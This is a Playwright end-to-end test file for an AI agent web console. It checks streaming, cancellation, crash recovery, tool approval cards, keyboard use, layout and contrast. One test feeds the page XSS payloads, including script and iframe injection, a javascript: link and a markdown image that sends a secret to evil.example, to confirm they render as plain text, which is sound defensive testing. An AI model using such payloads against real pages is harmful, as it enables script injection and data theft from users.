/** The page in a browser, before the real server: what a person asks, sees, stops and comes back to. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { chat, chatError, chats } from "../../src/testing/fault-chat.ts";
import { type FaultServer, startFaultServer } from "../../src/testing/fault-server.ts";
import { faint, misfits } from "./appearance.ts";
import { launchChromium } from "./chromium.ts";
import { badDay, counted, slowly } from "./office.ts";
import { Served } from "./served.ts";
import { type Visit, type VisitOptions, visit } from "./visit.ts";

const patience = { timeout: 120_000 };
let browser: Browser;
/** With nothing configured: answers are scripted. */
let scripted: Served;
/** With providers of the tests' own behind OpenAI's wire. */
let provided: Served;
let provider: FaultServer;

beforeAll(async () => {
  provider = await startFaultServer(chat({ text: "unused" }));
  // Chromium first: installing it is not the server's time.
  browser = await launchChromium();
  scripted = await Served.start();
  provided = await Served.start({ ESCAPEMENT_CONFIG: "test/console/office.config.ts", OFFICE_URL: provider.url, OFFICE_KEY: "none" });
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await scripted?.close();
  await provided?.close();
  await provider?.close();
});

async function open(served: Served, options?: VisitOptions): Promise<Visit> {
  served.check();
  const visited = await visit(browser, `${served.url}/`, options);
  onTestFinished(() => visited.close());
  return visited;
}

async function ask(page: Page, question: string, agent?: string): Promise<void> {
  if (agent) await page.getByRole("combobox", { name: "Agent" }).selectOption(agent);
  await page.getByRole("textbox", { name: "Question" }).fill(question);
  await page.keyboard.press("Enter");
  await page.waitForURL(/\?run=run_/);
}

const ended = (page: Page, status: string): Promise<void> => page.locator(".run-status", { hasText: status }).waitFor();
const answer = (page: Page): Promise<string> =>
  page.locator(".answer .line").evaluateAll((lines) => lines.map((line) => line.textContent).join("\n"));
const answering = (page: Page, words: string): Promise<void> => page.locator(".answer", { hasText: words }).waitFor();

describe("a question", patience, () => {
  test("is answered with a tool, and every state lights up on the way", async () => {
    const { page, strangers, faults, lit } = await open(scripted);
    await ask(page, "What is 12.5% of 8460?");
    await ended(page, "Done");
    expect(await answer(page)).toContain("1057.5");
    const tool = page.locator(".tool");
    expect(await tool.locator("summary").textContent()).toMatch(/calculator[\s\S]*1057\.5/);
    expect(await tool.locator("pre").first().isVisible()).toBe(false);
    await tool.locator("summary").click();
    expect(await tool.locator("pre").first().textContent()).toContain("12.5 / 100 * 8460");

    expect(await lit()).toEqual(expect.arrayContaining(["running", "thinking", "calling", "dispatching"]));
    const thinking = page.getByRole("list", { name: "States of run/agent", exact: true }).getByText("thinking").locator("..");
    expect(await thinking.textContent()).toMatch(/2×/);
    expect(await page.locator(".visit-now").count()).toBe(0);

    const row = page.getByRole("navigation", { name: "List of runs" }).locator("[aria-current=page]");
    await row.getByText("Done").waitFor();
    expect(await row.textContent()).toMatch(/assistant[\s\S]*tokens/);
    expect(await page.getByRole("note").textContent()).toContain("Answers are scripted: no model is connected.");
    expect(strangers).toEqual([]);
    expect(faults).toEqual([]);
  });

  test("has an address that restores it, and back leads away from it", async () => {
    const { page } = await open(scripted);
    await ask(page, "What is 2 + 2?");
    await ended(page, "Done");
    const address = page.url();
    await page.goBack();
    await page.getByRole("heading", { name: "Ask an agent" }).waitFor();
    await page.goForward();
    await answering(page, "4");
    const other = await visit(browser, address);
    onTestFinished(() => other.close());
    await answering(other.page, "4");
    await other.page.locator(".asked", { hasText: "What is 2 + 2?" }).waitFor();
  });

  test("keeps its line breaks with Shift Enter and is not sent when empty", async () => {
    const { page } = await open(scripted);
    const box = page.getByRole("textbox", { name: "Question" });
    await box.focus();
    await page.keyboard.press("Enter");
    await page.keyboard.type("one");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("two");
    expect(await box.inputValue()).toBe("one\ntwo");
    expect(page.url()).not.toContain("run=");
  });
});

describe("an answer that streams", patience, () => {
  test("is stopped by Escape and keeps what was written", async () => {
    provider.use(chat(slowly(2_000)));
    const { page } = await open(provided);
    await ask(page, "Count for a long time");
    await answering(page, "w10 ");
    await page.keyboard.press("Escape");
    await ended(page, "Cancelled");
    expect(await answer(page)).toMatch(/^w0 w1 w2 /);
    expect(await page.getByRole("button", { name: "Cancel" }).count()).toBe(0);
    expect(await page.locator(".caret").count()).toBe(0);
  });

  test("is stopped by the button", async () => {
    provider.use(chat(slowly(2_000)));
    const { page } = await open(provided);
    await ask(page, "Count again");
    await answering(page, "w5 ");
    await page.getByRole("button", { name: "Cancel" }).click();
    await ended(page, "Cancelled");
    // Not "Cancelled: cancelled, cancelled".
    expect(await page.locator(".end-line").textContent()).toBe("Cancelledfrom the console");
  });

  test("goes on where it was after a reload", async () => {
    provider.use(chat(slowly(160)));
    const { page } = await open(provided);
    await ask(page, "Count to 160");
    await answering(page, "w20 ");
    await page.reload();
    await answering(page, "w20 ");
    expect(await page.locator(".run-status").textContent()).toBe("Running");
    await ended(page, "Done");
    expect(await answer(page)).toBe(counted(160));
  });

  test("goes on after the server was gone, with what was there kept and the time said", async () => {
    provider.use(chat(slowly(200)));
    const { page } = await open(provided);
    await ask(page, "Count across a crash");
    await answering(page, "w15 ");
    await provided.kill();
    await page.locator(".banner", { hasText: /Disconnected since \d\d:\d\d:\d\d/ }).waitFor();
    expect(await answer(page)).toContain("w15");
    expect(await page.locator(".away").textContent()).toMatch(/Disconnected since \d\d:\d\d:\d\d/);
    await provided.start();
    await page.locator(".banner").waitFor({ state: "detached" });
    await ended(page, "Done");
    // The call died with its process and was made again; what had been shown of it was taken back.
    expect(await page.locator(".answer .text").last().textContent()).toBe(counted(200));
    await page.locator(".taken-back").waitFor();
    await page.getByText("Live", { exact: true }).waitFor();
  });

  test("tells in the timeline why it was made again", async () => {
    provider.use(chats([chatError(500, "a bad moment"), { text: "All good." }]));
    const { page } = await open(provided);
    await ask(page, "Try twice");
    await ended(page, "Done");
    const retry = page.locator(".fact", { hasText: /Retrying in/ });
    expect(await retry.locator(".fact-reason").textContent()).not.toBe("");
    expect(await page.locator(".fact", { hasText: /Call c\d+ failed/ }).textContent()).toContain("a bad moment");
  });

  test("may be hostile: it is text and nothing else", async () => {
    const hostile = [
      '<script>document.title = "owned"; parent.owned = true</script>',
      '<img src="https://evil.example/pixel.png" onerror="document.title=\'owned\'">',
      "![exfiltrate](https://evil.example/steal?d=secret) [click](javascript:alert(1))",
      "<style>* { display: none }</style></div></main><h1>Not ours</h1>",
      "\u202e\u0000 <iframe srcdoc='<script>1</script>'></iframe> {{constructor.constructor('return 1')()}}",
    ].join("\n");
    provider.use(chat({ text: [hostile] }));
    const { page, strangers, faults } = await open(provided);
    await ask(page, '<b onclick="x">Hello</b>');
    await ended(page, "Done");
    expect((await answer(page)).replaceAll("\u0000", "")).toBe(hostile.replaceAll("\u0000", ""));
    expect(await page.locator(".asked").textContent()).toContain('<b onclick="x">Hello</b>');
    expect(await page.title()).not.toContain("owned");
    expect(await page.locator("main :is(img, script, iframe, style, b)").count()).toBe(0);
    expect(strangers).toEqual([]);
    expect(faults).toEqual([]);
  });

  test("at 100 words a second leaves the page drawing", async () => {
    provider.use(chat({ text: counted(400), paceMs: 10 }));
    const { page } = await open(provided);
    await ask(page, "Count quickly");
    await answering(page, "w20 ");
    const slow = await page.evaluate(async () => {
      const gaps: number[] = [];
      let last = performance.now();
      while (gaps.length < 120) {
        const now = await new Promise<number>((resolve) => requestAnimationFrame(resolve));
        gaps.push(now - last);
        last = now;
      }
      return gaps.sort((a, b) => a - b)[60] as number;
    });
    // On a quiet machine every frame comes in time (16.7 ms); half of them within twice that even where other tests draw too.
    expect(slow).toBeLessThan(34);
    await ended(page, "Done");
    expect(await answer(page)).toBe(counted(400));
  });
});

describe("a person", patience, () => {
  test("is asked with the exact arguments before a tool runs, and sees what went wrong on the way", async () => {
    provider.use(badDay());
    const { page } = await open(provided);
    await ask(page, "Send the totals of the third quarter", "clerk");
    const card = page.getByRole("region", { name: "Approve this?" });
    await card.waitFor();
    await ended(page, "Waiting for you");
    expect(await card.locator("pre").textContent()).toContain('"subject": "Third quarter, by region"');
    await page.locator(".row", { hasText: "Waiting for you" }).first().waitFor();
    expect(await page.locator(".taken-back .text").textContent()).toContain("The regional totals");
    expect(
      await page.locator(".fact", { hasText: "Fell back from frail to secondary" }).first().locator(".fact-reason").textContent(),
    ).not.toBe("");
    expect(await page.locator(".visit-now").allTextContents()).toEqual(
      expect.arrayContaining([expect.stringContaining("awaitingApproval")]),
    );
    await card.getByRole("textbox").fill("looks right");
    // In the card, Escape is not about the run.
    await page.keyboard.press("Escape");
    await card.getByRole("button", { name: "Approve" }).click();
    await ended(page, "Done");
    expect(await page.locator(".answered summary").textContent()).toContain("Approved: looks right");
    expect(await page.locator(".tool", { hasText: "send_mail" }).locator("summary").textContent()).toContain("returned");
    expect(await answer(page)).toContain("185,463.75");
  });

  test("can say no", async () => {
    provider.use(badDay());
    const { page } = await open(provided);
    await ask(page, "Send them again", "clerk");
    await page.getByRole("button", { name: "Deny" }).click();
    await ended(page, "Done");
    expect(await page.locator(".answered summary").textContent()).toContain("Denied");
    expect(await page.locator(".tool", { hasText: "send_mail" }).filter({ hasText: "returned" }).count()).toBe(0);
  });

  test("is asked for money, and what is typed has to be an amount", async () => {
    provider.use(chat({ text: "Worth it." }));
    const { page } = await open(provided);
    await ask(page, "Spend more than you may", "thrifty");
    const card = page.getByRole("region", { name: "More money is needed" });
    await card.getByRole("textbox").fill("a lot");
    await page.keyboard.press("Enter");
    expect(await card.getByRole("alert").textContent()).toContain("is no amount");
    await card.getByRole("textbox").fill("0.05");
    await page.keyboard.press("Enter");
    await ended(page, "Done");
    expect(await page.locator(".answered summary").textContent()).toContain("Added $0.05");
    expect(await answer(page)).toContain("Worth it.");
  });
});

describe("before the first run", patience, () => {
  test("the page says that answers are scripted", async () => {
    const { page } = await open(scripted);
    await page.route("**/v1/runs?*", (route) => route.fulfill({ json: { data: [], next: null } }));
    await page.reload();
    await page.getByText("No runs yet").waitFor();
    await page.getByRole("note").getByText("Answers are scripted: no model is connected.").waitFor();
    const other = await open(provided);
    await other.page.getByRole("option", { name: "clerk" }).waitFor({ state: "attached" });
    expect(await other.page.getByRole("note").count()).toBe(0);
  });

  test("an example is one key from being asked", async () => {
    const { page } = await open(scripted);
    await page.getByRole("button", { name: "What time is it in Tokyo?" }).click();
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("TEXTAREA");
    await page.keyboard.press("Enter");
    await ended(page, "Done");
    expect(await answer(page)).toMatch(/The clock says .* \(UTC\+09:00\)\./);
  });

  test("a browser without JavaScript is told of what is there", async () => {
    const html = await (await fetch(scripted.url)).text();
    const told = /<noscript>([\s\S]*)<\/noscript>/.exec(html)?.[1] ?? "";
    const links = [...told.matchAll(/href="([^"]+)"/g)].map((match) => match[1] as string);
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) expect((await fetch(new URL(link, `${scripted.url}/`))).status, link).toBe(200);
  });
});

describe("what cannot be shown", patience, () => {
  test("is said: a run that does not exist", async () => {
    const { page } = await open(scripted);
    await page.goto(`${scripted.url}/?run=run_nobody`);
    await page.getByRole("heading", { name: "There is no such run" }).waitFor();
    await page.getByRole("link", { name: "Ask something" }).click();
    await page.getByRole("heading", { name: "Ask an agent" }).waitFor();
  });

  test("is said: a run that failed, with the error's words", async () => {
    provider.use(() => chatError(400, "this model does not like you"));
    const { page } = await open(provided);
    await ask(page, "Fail, please");
    await ended(page, "Failed");
    expect(await page.locator(".end-line").textContent()).toContain("this model does not like you");
  });
});

describe("the page", patience, () => {
  test("is used by keyboard alone, and shows where the focus is", async () => {
    const { page } = await open(scripted);
    await page.getByRole("textbox", { name: "Question" }).waitFor();
    await page.keyboard.type("What is 3 * 3?");
    await page.keyboard.press("Enter");
    await ended(page, "Done");
    await page.locator(".row").first().focus();
    await page.keyboard.press("Tab");
    await page.keyboard.press("Shift+Tab");
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement as Element).outlineStyle);
    expect(outline).toBe("solid");
    await page.keyboard.press("ArrowDown");
    expect(await page.evaluate(() => document.activeElement?.className)).toBe("row");
    const target = await page.evaluate(() => (document.activeElement as HTMLAnchorElement).search);
    await page.keyboard.press("Enter");
    await page.waitForURL((url) => url.search === target);
  });

  test.each([
    [1_920, 1_080],
    [1_280, 800],
    [1_000, 700],
    [390, 844],
    [320, 568],
  ])("fits %d wide: nothing sticks out, nothing overlaps, no scroll bar inside a scroll bar", async (width, height) => {
    provider.use(badDay());
    const { page } = await open(provided, { width, height });
    await page.locator(".rail-list, .rail-note").waitFor();
    expect(await page.evaluate(misfits), "asking").toEqual([]);
    await ask(page, "Send the totals", "clerk");
    await page.getByRole("region", { name: "Approve this?" }).waitFor();
    expect(await page.evaluate(misfits), "waiting").toEqual([]);
    await page.getByRole("button", { name: "Approve" }).click();
    await ended(page, "Done");
    expect(await page.evaluate(misfits), "done").toEqual([]);
  });

  test.each(["light", "dark"] as const)("has AA contrast when it is %s", async (scheme) => {
    provider.use(badDay());
    const { page } = await open(provided, { scheme });
    await page.locator(".rail-list, .rail-note").waitFor();
    expect(await page.evaluate(faint), "asking").toEqual([]);
    await ask(page, "Send the totals", "clerk");
    await page.getByRole("region", { name: "Approve this?" }).waitFor();
    await page.locator(".tool summary").click();
    // After many cut streams the breaker may have spared this run one.
    for (const folded of await page.locator(".taken-back summary").all()) await folded.click();
    expect(await page.evaluate(faint), "waiting").toEqual([]);
    await page.keyboard.press("Escape");
    await ended(page, "Cancelled");
    expect(await page.evaluate(faint), "cancelled").toEqual([]);
    const other = await open(scripted, { scheme });
    await ask(other.page, "What is 12.5% of 8460?");
    await ended(other.page, "Done");
    expect(await other.page.evaluate(faint), "scripted").toEqual([]);
  });

  test("stands still for whoever wants less motion", async () => {
    const { page } = await open(scripted, { reducedMotion: "reduce" });
    await ask(page, "What is 12.5% of 8460?");
    await ended(page, "Done");
    expect(await page.evaluate(() => document.getAnimations().length)).toBe(0);
  });
});
